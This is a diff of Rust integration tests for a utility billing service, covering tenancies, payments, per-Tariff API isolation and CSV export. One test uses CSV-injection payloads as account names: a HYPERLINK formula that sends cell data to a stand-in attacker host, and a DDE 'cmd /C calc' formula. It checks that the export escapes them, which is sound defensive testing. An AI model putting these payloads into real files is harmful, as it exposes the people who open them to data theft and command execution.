@@ -4,16 +4,20 @@
 //! simulated meters are in system-tests/tests/billing.rs.)
 
 use std::collections::HashMap;
+use std::sync::Arc;
 
 use chrono::{DateTime, Duration, NaiveDate, TimeZone, Utc};
+use fleetward_billing::api::{self, Api};
 use fleetward_billing::bill::Period;
 use fleetward_billing::db::{self, Reading};
 use fleetward_billing::fleet::Meter;
 use fleetward_billing::metrics::Metrics;
 use fleetward_billing::run::{self, Job};
+use fleetward_billing::service::Service;
 use fleetward_billing::store::{self, BillFilter};
 use fleetward_testkit::{env, unique};
 use rust_decimal::Decimal;
+use serde_json::json;
 use sqlx::PgPool;
 
 fn d(s: &str) -> Decimal {
@@ -185,23 +189,38 @@ async fn a_tenant_change_mid_month_bills_each_holder_for_their_days() {
         ("tenant-1", "First Tenant"),
         ("tenant-2", "Second Tenant"),
     ] {
-        assert!(store::create_account(&pool, &ns, id, name, None).await.unwrap());
+        assert!(
+            store::create_account(&pool, &ns, "residential", id, name, None)
+                .await
+                .unwrap()
+        );
     }
     let day = |n| NaiveDate::from_ymd_opt(2026, 11, n).unwrap();
     // tenant-1 leaves on the 11th, tenant-2 arrives on the 21st: the owner
     // holds the 11th to the 20th.
-    let t1 = store::add_tenancy(&pool, &ns, "flat-9", "tenant-1", day(1) - chrono::Days::new(90), None)
+    let t1 = store::add_tenancy(
+        &pool,
+        &ns,
+        "residential",
+        "flat-9",
+        "tenant-1",
+        day(1) - chrono::Days::new(90),
+        None,
+    )
+    .await
+    .unwrap()
+    .unwrap();
+    store::end_tenancy(&pool, &ns, "residential", t1.id, day(11))
         .await
         .unwrap()
         .unwrap();
-    store::end_tenancy(&pool, &ns, t1.id, day(11)).await.unwrap().unwrap();
-    store::add_tenancy(&pool, &ns, "flat-9", "tenant-2", day(21), None)
+    store::add_tenancy(&pool, &ns, "residential", "flat-9", "tenant-2", day(21), None)
         .await
         .unwrap()
         .unwrap();
     // An overlapping tenancy is refused.
     assert!(matches!(
-        store::add_tenancy(&pool, &ns, "flat-9", "owner", day(25), None)
+        store::add_tenancy(&pool, &ns, "residential", "flat-9", "owner", day(25), None)
             .await
             .unwrap(),
         Err(store::TenancyRefused::Overlaps(_))
@@ -261,23 +280,47 @@ async fn payments_settle_bills_and_the_unpaid_become_defaulters() {
     assert_eq!(alice.due_date, NaiveDate::from_ymd_opt(2026, 12, 16).unwrap());
 
     // Part, then the rest, then more than the rest.
-    store::pay(&pool, &ns, alice.id, d("10.00"), "card", &format!("{ns}-1"))
-        .await
-        .unwrap()
-        .unwrap();
+    store::pay(
+        &pool,
+        &ns,
+        "residential",
+        alice.id,
+        d("10.00"),
+        "card",
+        &format!("{ns}-1"),
+    )
+    .await
+    .unwrap()
+    .unwrap();
     let a = store::bill(&pool, &ns, "residential", alice.id).await.unwrap().unwrap();
     assert_eq!((a.status, a.balance.as_str()), ("partially_paid", "6.46"));
     // The same reference again is not a second payment.
     assert!(
-        store::pay(&pool, &ns, alice.id, d("10.00"), "card", &format!("{ns}-1"))
-            .await
-            .unwrap()
-            .is_err()
-    );
-    store::pay(&pool, &ns, alice.id, d("6.46"), "upi", &format!("{ns}-2"))
+        store::pay(
+            &pool,
+            &ns,
+            "residential",
+            alice.id,
+            d("10.00"),
+            "card",
+            &format!("{ns}-1")
+        )
         .await
         .unwrap()
-        .unwrap();
+        .is_err()
+    );
+    store::pay(
+        &pool,
+        &ns,
+        "residential",
+        alice.id,
+        d("6.46"),
+        "upi",
+        &format!("{ns}-2"),
+    )
+    .await
+    .unwrap()
+    .unwrap();
     assert_eq!(
         store::bill(&pool, &ns, "residential", alice.id)
             .await
@@ -286,7 +329,7 @@ async fn payments_settle_bills_and_the_unpaid_become_defaulters() {
             .status,
         "paid"
     );
-    store::pay(&pool, &ns, bob.id, d("20"), "cash", &format!("{ns}-3"))
+    store::pay(&pool, &ns, "residential", bob.id, d("20"), "cash", &format!("{ns}-3"))
         .await
         .unwrap()
         .unwrap();
@@ -332,13 +375,128 @@ async fn payments_settle_bills_and_the_unpaid_become_defaulters() {
     assert_eq!(late[0].days_overdue, 20);
 }
 
-/// Two Tariffs in one namespace: the billing key of one cannot reach the
-/// other's bills. What the API does for a bill id (show it, its payments,
-/// record a payment) starts with `store::bill` in the caller's Tariff, and
-/// the defaulters list is the caller's Tariff's: tried with the other
-/// Tariff's bill id and debtors, both refused.
+/// An account named like a spreadsheet formula (CSV injection): in the
+/// period's CSV the name is text (a leading `'`), and amounts, negative
+/// balances included, are numbers as before.
 #[tokio::test]
-async fn one_tariffs_key_does_not_reach_another_tariffs_bills() {
+async fn a_formula_in_a_name_is_text_in_the_bill_csv() {
+    let pool = pool().await;
+    let ns = unique("csv");
+    let metrics = Metrics::default();
+    let evil = r#"=HYPERLINK("http://attacker.example/?"&A1,"Pay here")"#;
+    for (id, name) in [
+        ("eve", evil),
+        ("mallory", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("ok", "Plain Name"),
+    ] {
+        assert!(
+            store::create_account(&pool, &ns, "residential", id, name, None)
+                .await
+                .unwrap()
+        );
+    }
+    let rows = [
+        reading(&ns, "m1", at(1, 0), "0"),
+        reading(&ns, "m1", at(30, 0), "10"),
+        reading(&ns, "m2", at(1, 0), "0"),
+        reading(&ns, "m2", at(30, 0), "10"),
+        reading(&ns, "m3", at(1, 0), "0"),
+        reading(&ns, "m3", at(30, 0), "10"),
+    ];
+    db::insert_readings(&pool, &rows).await.unwrap();
+    let meters = [
+        meter("m1", "p1", "eve"),
+        meter("m2", "p2", "mallory"),
+        meter("m3", "p3", "ok"),
+    ];
+    bill_nov(&pool, &ns, &meters, &metrics).await;
+    // Overpaid: a negative balance, which stays a number.
+    let ok_bill = bills(&pool, &ns, false).await[&("m3".to_string(), "ok".to_string())][0].clone();
+    store::pay(
+        &pool,
+        &ns,
+        "residential",
+        ok_bill.id,
+        d("100"),
+        "cash",
+        &format!("{ns}-over"),
+    )
+    .await
+    .unwrap()
+    .unwrap();
+    let all = store::bills(&pool, &ns, &BillFilter::default()).await.unwrap();
+    let text = fleetward_billing::render::csv(&all).unwrap();
+    let mut r = csv::Reader::from_reader(text.as_bytes());
+    let head = r.headers().unwrap().clone();
+    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
+    let rows: HashMap<String, csv::StringRecord> = r
+        .records()
+        .map(|rec| rec.unwrap())
+        .map(|rec| (rec[col("account_id")].to_string(), rec))
+        .collect();
+    assert_eq!(&rows["eve"][col("account_name")], format!("'{evil}"));
+    assert!(rows["mallory"][col("account_name")].starts_with("'@SUM"));
+    assert_eq!(&rows["ok"][col("account_name")], "Plain Name");
+    assert!(rows["ok"][col("balance")].starts_with('-'), "{:?}", rows["ok"]);
+}
+
+/// A billing API of Tariff `tariff` in `ns`, served on a free port of
+/// loopback: its base URL and key.
+async fn serve_api(pool: &PgPool, ns: &str, tariff: &str) -> (String, String) {
+    let service = Service::new(
+        pool.clone(),
+        fleetward_testkit::client().await,
+        ns.into(),
+        tariff.into(),
+        None,
+        Arc::new(Metrics::default()),
+        4,
+    );
+    let key = format!("{tariff}-key-{}", "k".repeat(40));
+    let api = Api::new(service, &key, 1000, 1000);
+    let port = fleetward_testkit::free_port();
+    let addr: std::net::SocketAddr = ([127, 0, 0, 1], port).into();
+    tokio::spawn(api::serve(addr, api));
+    fleetward_testkit::wait_port(port, 10);
+    (format!("http://127.0.0.1:{port}/api/v1"), key)
+}
+
+/// One caller of a billing API.
+struct Caller {
+    http: reqwest::Client,
+    base: String,
+    key: String,
+}
+
+impl Caller {
+    async fn send(&self, method: reqwest::Method, path: &str, body: Option<serde_json::Value>) -> (u16, String) {
+        let mut req = self
+            .http
+            .request(method, format!("{}{path}", self.base))
+            .bearer_auth(&self.key);
+        if let Some(b) = body {
+            req = req.json(&b);
+        }
+        let res = req.send().await.unwrap();
+        (res.status().as_u16(), res.text().await.unwrap())
+    }
+
+    async fn get(&self, path: &str) -> (u16, String) {
+        self.send(reqwest::Method::GET, path, None).await
+    }
+
+    async fn post(&self, path: &str, body: serde_json::Value) -> (u16, String) {
+        self.send(reqwest::Method::POST, path, Some(body)).await
+    }
+}
+
+/// Two Tariffs in one namespace, each with its billing API and key: the
+/// holder of one Tariff's key tries every endpoint of its API on the other
+/// Tariff's bills, payments, debtors, accounts, tenancies, payment
+/// references and runs. Each is refused or shows nothing of the other's,
+/// and the other Tariff's records are unchanged afterwards.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn one_tariffs_key_reaches_nothing_of_another_tariff_through_any_endpoint() {
     let pool = pool().await;
     let ns = unique("two-tariffs");
     let metrics = Metrics::default();
@@ -362,28 +520,164 @@ async fn one_tariffs_key_does_not_reach_another_tariffs_bills() {
             .expect("a bill of each Tariff")
             .id
     };
-    let (alice, bob) = (of("residential"), of("commercial"));
-
-    // Each Tariff finds its own bill by id, and not the other's.
-    assert!(store::bill(&pool, &ns, "residential", alice).await.unwrap().is_some());
-    assert!(store::bill(&pool, &ns, "commercial", bob).await.unwrap().is_some());
-    assert!(store::bill(&pool, &ns, "commercial", alice).await.unwrap().is_none());
-    assert!(store::bill(&pool, &ns, "residential", bob).await.unwrap().is_none());
-
-    // Overdue, both unpaid: each Tariff's defaulters are its own debtors.
-    let late = NaiveDate::from_ymd_opt(2027, 1, 5).unwrap();
-    let debtors = |tariff: &'static str| {
-        let pool = pool.clone();
-        let ns = ns.clone();
-        async move {
-            store::defaulters(&pool, &ns, tariff, late)
-                .await
-                .unwrap()
-                .into_iter()
-                .map(|d| d.account_id)
-                .collect::<Vec<_>>()
-        }
+    let (alice_bill, bob_bill) = (of("residential"), of("commercial"));
+    let _ = rustls::crypto::ring::default_provider().install_default();
+    let http = reqwest::Client::new();
+    let (base, key) = serve_api(&pool, &ns, "residential").await;
+    let owner = Caller {
+        http: http.clone(),
+        base,
+        key,
     };
-    assert_eq!(debtors("residential").await, ["alice"]);
-    assert_eq!(debtors("commercial").await, ["bob"]);
+    let (base, key) = serve_api(&pool, &ns, "commercial").await;
+    let other = Caller { http, base, key };
+
+    // The residential Tariff's own records: an account, a tenancy, a payment.
+    let (code, _) = owner
+        .post("/accounts", json!({"id": "alice", "name": "Alice Owner"}))
+        .await;
+    assert_eq!(code, 201);
+    let (code, t) = owner
+        .post(
+            "/tenancies",
+            json!({"property": "pa", "account": "alice", "startsOn": "2026-01-01"}),
+        )
+        .await;
+    assert_eq!(code, 201, "{t}");
+    let tenancy: serde_json::Value = serde_json::from_str(&t).unwrap();
+    let tenancy = tenancy["id"].as_i64().unwrap();
+    let (code, _) = owner
+        .post(
+            &format!("/bills/{alice_bill}/payments"),
+            json!({"amount": "1.00", "method": "card", "reference": "ref-1"}),
+        )
+        .await;
+    assert_eq!(code, 201);
+    let before = [
+        owner.get("/accounts").await,
+        owner.get("/tenancies").await,
+        owner.get(&format!("/bills/{alice_bill}")).await,
+    ];
+
+    // The residential key on the commercial API: not its key.
+    let wrong_key = Caller {
+        http: other.http.clone(),
+        base: other.base.clone(),
+        key: owner.key.clone(),
+    };
+    assert_eq!(wrong_key.get("/bills").await.0, 401);
+
+    // The commercial key, on everything of the residential Tariff.
+    let (code, list) = other.get("/bills").await;
+    assert_eq!(code, 200);
+    assert!(
+        !list.contains(&alice_bill.to_string()) && list.contains(&bob_bill.to_string()),
+        "{list}"
+    );
+    let (code, csv) = other.get("/bills.csv?period=2026-11").await;
+    assert_eq!(code, 200);
+    assert!(!csv.contains("alice") && csv.contains("bob"), "{csv}");
+    for path in ["", "/html", "/payments"] {
+        let (code, body) = other.get(&format!("/bills/{alice_bill}{path}")).await;
+        assert_eq!(code, 404, "GET /bills/<other Tariff's bill>{path}: {body}");
+    }
+    let (code, _) = other
+        .post(
+            &format!("/bills/{alice_bill}/payments"),
+            json!({"amount": "99.00", "method": "cash", "reference": "ref-forged"}),
+        )
+        .await;
+    assert_eq!(code, 404, "a payment towards another Tariff's bill");
+    let (code, debtors) = other.get("/defaulters?asOf=2027-01-05").await;
+    assert_eq!(code, 200);
+    assert!(!debtors.contains("alice") && debtors.contains("bob"), "{debtors}");
+    let (code, accounts) = other.get("/accounts").await;
+    assert_eq!((code, accounts.as_str()), (200, "[]"));
+    let (code, tenancies) = other.get("/tenancies").await;
+    assert_eq!((code, tenancies.as_str()), (200, "[]"));
+    let (code, _) = other
+        .post(
+            "/tenancies",
+            json!({"property": "pa", "account": "alice", "startsOn": "2026-12-01"}),
+        )
+        .await;
+    assert_eq!(code, 422, "a tenancy for another Tariff's account");
+    let (code, _) = other
+        .send(
+            reqwest::Method::PATCH,
+            &format!("/tenancies/{tenancy}"),
+            Some(json!({"endsOn": "2026-02-01"})),
+        )
+        .await;
+    assert_eq!(code, 404, "ending another Tariff's tenancy");
+    // Its own account of the same id and a payment under the same
+    // reference are its own: no conflict, nothing of the other's shown.
+    let (code, _) = other
+        .post("/accounts", json!({"id": "alice", "name": "Someone Else"}))
+        .await;
+    assert_eq!(code, 201);
+    let (code, paid) = other
+        .post(
+            &format!("/bills/{bob_bill}/payments"),
+            json!({"amount": "2.00", "method": "cash", "reference": "ref-1"}),
+        )
+        .await;
+    assert_eq!(code, 201, "another Tariff's reference is not seen: {paid}");
+    let (code, runs) = other.get("/runs").await;
+    assert_eq!(code, 200);
+    assert!(!runs.contains("residential") && runs.contains("commercial"), "{runs}");
+
+    // The residential Tariff's records are as they were.
+    let after = [
+        owner.get("/accounts").await,
+        owner.get("/tenancies").await,
+        owner.get(&format!("/bills/{alice_bill}")).await,
+    ];
+    assert_eq!(before, after);
+    assert!(after[0].1.contains("Alice Owner") && !after[0].1.contains("Someone Else"));
+}
+
+/// Accounts and tenancies written before they belonged to a Tariff (no
+/// `tariff`): each Tariff's billing service adopts its own copy once, so a
+/// namespace keeps its customers across the upgrade.
+#[tokio::test]
+async fn records_from_before_tariff_scoping_are_adopted_once_by_each_tariff() {
+    let pool = pool().await;
+    let ns = unique("adopt");
+    sqlx::query("INSERT INTO fleetward_billing.accounts (namespace, id, name) VALUES ($1, 'carol', 'Carol')")
+        .bind(&ns)
+        .execute(&pool)
+        .await
+        .unwrap();
+    sqlx::query(
+        "INSERT INTO fleetward_billing.tenancies (namespace, property, account_id, starts_on) \
+         VALUES ($1, 'pc', 'carol', '2026-01-01')",
+    )
+    .bind(&ns)
+    .execute(&pool)
+    .await
+    .unwrap();
+    for tariff in ["residential", "commercial"] {
+        assert_eq!(
+            store::adopt_namespace_records(&pool, &ns, tariff).await.unwrap(),
+            (1, 1)
+        );
+        assert_eq!(
+            store::adopt_namespace_records(&pool, &ns, tariff).await.unwrap(),
+            (0, 0)
+        );
+        let accounts = store::accounts(&pool, &ns, tariff).await.unwrap();
+        assert_eq!(accounts.iter().map(|a| a.id.as_str()).collect::<Vec<_>>(), ["carol"]);
+        let t = store::tenancy_list(&pool, &ns, tariff, None).await.unwrap();
+        assert_eq!((t.len(), t[0].property.as_str()), (1, "pc"));
+    }
+    // Each has its own: one Tariff ending its tenancy leaves the other's.
+    let t = store::tenancy_list(&pool, &ns, "residential", None).await.unwrap()[0].id;
+    let day = NaiveDate::from_ymd_opt(2026, 6, 1).unwrap();
+    store::end_tenancy(&pool, &ns, "residential", t, day)
+        .await
+        .unwrap()
+        .unwrap();
+    let other = store::tenancy_list(&pool, &ns, "commercial", None).await.unwrap();
+    assert_eq!(other[0].ends_on, None);
 }
